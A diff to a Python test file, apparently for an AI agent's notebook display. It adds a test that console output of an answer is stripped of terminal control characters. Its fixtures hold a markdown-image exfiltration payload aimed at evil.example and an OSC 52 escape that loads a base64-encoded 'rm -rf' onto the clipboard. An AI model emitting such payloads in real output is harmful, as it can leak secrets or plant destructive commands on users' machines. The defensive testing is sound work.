@@ -65,10 +65,13 @@ print(answer, agent.session.transcript[2].content, kinds[-1], sep="; ")
 HOSTILE = (
     "'![x](https://evil.example/?secret) <img src=//evil.example> <script>1</script>'"
 )
+CONTROL = r"'Hi \x1b]52;c;cm0gLXJm\x07 there \x9b2J'"
 CELLS = {
     "begin": BEGIN,
     "hostile": f'agent_with(says({HOSTILE})).chat("hi")',
     "hostile asked": f'agent_with(says({HOSTILE})).ask("hi")',
+    "control": f'agent_with(says({CONTROL})).chat("hi")',
+    "control asked": f'agent_with(says({CONTROL})).ask("hi")',
     "last line": 'agent = agent_with(says("Hello **you**."))\nagent.chat("hi")',
     "assigned": 'answer = agent_with(says("Hello **you**.")).chat("hi")',
     "shown again": "answer",
@@ -120,6 +123,13 @@ def test_an_answer_is_shown_as_html_whose_images_are_links(shown):
 
 
 @pytest.mark.kernel
+def test_what_a_console_prints_of_an_answer_has_no_control_characters(shown):
+    for name in ("control", "control asked"):
+        (output,) = shown[name]
+        assert "Hi" in output.data["text/plain"]
+        assert not {"\x1b", "\x07", "\x9b"} & {*output.data["text/plain"]}
+
+
 def test_a_silent_answer_shows_nothing(shown):
     assert shown["asked silently"] == []
 
